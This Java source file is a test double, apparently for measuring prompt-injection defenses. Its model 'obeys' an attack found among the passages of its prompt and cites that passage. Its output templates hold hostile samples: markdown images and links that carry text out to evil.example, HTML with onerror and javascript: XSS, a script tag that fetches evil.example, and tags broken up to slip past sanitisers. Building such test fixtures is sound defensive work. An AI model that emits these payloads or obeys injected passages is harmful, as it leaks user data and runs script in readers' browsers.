package footnote.measure;

import dev.langchain4j.data.message.AiMessage;
import dev.langchain4j.data.message.UserMessage;
import dev.langchain4j.model.chat.StreamingChatModel;
import dev.langchain4j.model.chat.request.ChatRequest;
import dev.langchain4j.model.chat.response.ChatResponse;
import dev.langchain4j.model.chat.response.PartialResponse;
import dev.langchain4j.model.chat.response.PartialResponseContext;
import dev.langchain4j.model.chat.response.StreamingChatResponseHandler;
import dev.langchain4j.model.chat.response.StreamingHandle;
import dev.langchain4j.model.output.FinishReason;
import java.util.Locale;

/**
 * A language model that does what it reads in a passage, as far as a script can: it finds an attack among the passages of
 * its prompt, and says what the attack wants, with the number of the passage that holds it.
 */
final class ObedientModel implements StreamingChatModel {

    /** What it says: %1$s stands for the wanted words, %2$s for the attack's, %3$s for a true sentence, %4$d for the number. */
    enum Mode {
        WANTED("%1$s [%4$d]."),
        WANTED_SENTENCE("The answer is: %1$s. [%4$d]"),
        ATTACK("%2$s [%4$d]"),
        ATTACK_QUOTED("The article says: “%2$s” [%4$d]."),
        MARKDOWN(
                "%3$s [%4$d](https://evil.example/?q=%1$s). ![%1$s](https://evil.example/p.png) [%2$s](https://evil.example)"
                        + " [%4$d]. <https://evil.example/a> https://evil.example/b www.evil.example"),
        HTML(
                "<p>%3$s [%4$d].</p><img src=\"https://evil.example/p.png\" onerror='alert(1)'><a href=\"javascript:alert(1)\">"
                        + "%1$s</a> [%4$d]. <script>fetch('https://evil.example')</script><!-- %2$s --> &lt;img src=x&gt;"),
        LINKED("[%3$s](javascript:alert(1)) [[%4$d]](https://evil.example). Mail mailto:a@evil.example or"
                + " [see][x].\n\n[x]: https://evil.example \"%1$s\"\n"),
        BROKEN("%3$s [%4$d]. <<b>img src=https://evil.example/p.png> !<b></b>[x]<b></b>(https://evil.example)"
                + " h<i></i>ttps://evil.example <img src=\"https://evil.example/");

        private final String form;

        Mode(String form) {
            this.form = form;
        }
    }

    private static final int TOKEN = 4;

    private Mode mode = Mode.WANTED;
    private String attack = "";
    private String wanted = "";
    private String truth = "";

    /** What the next call is to obey. */
    void set(Mode next, String itsAttack, String itsWish, String itsTruth) {
        mode = next;
        attack = itsAttack;
        wanted = itsWish;
        truth = itsTruth;
    }

    /** What it will have said, were the attack in the passage of this number. */
    String says(int passage) {
        return String.format(Locale.ROOT, mode.form, wanted, attack, truth, passage);
    }

    @Override
    public void doChat(ChatRequest request, StreamingChatResponseHandler handler) {
        String said = says(passage(((UserMessage) request.messages().getLast()).singleText()));
        PartialResponseContext context = new PartialResponseContext(new Open());
        for (int at = 0; at < said.length(); at += TOKEN) {
            handler.onPartialResponse(
                    new PartialResponse(said.substring(at, Math.min(said.length(), at + TOKEN))), context);
        }
        handler.onCompleteResponse(ChatResponse.builder()
                .aiMessage(AiMessage.from(said))
                .finishReason(FinishReason.STOP)
                .build());
    }

    /** The number of the passage that holds the attack; the first where none does. */
    private int passage(String prompt) {
        String start = letters(attack).substring(0, Math.min(30, letters(attack).length()));
        int number = 0;
        for (String part : prompt.split("\n\n", -1)) {
            if (part.matches("(?s)\\[\\d+\\] .*")) {
                number++;
                if (letters(part).contains(start)) {
                    return number;
                }
            }
        }
        return 1;
    }

    static String letters(String text) {
        return text.toLowerCase(Locale.ROOT).replaceAll("[^\\p{L}\\p{N}]+", " ").strip();
    }

    private static final class Open implements StreamingHandle {

        private volatile boolean cancelled;

        @Override
        public void cancel() {
            cancelled = true;
        }

        @Override
        public boolean isCancelled() {
            return cancelled;
        }
    }
}
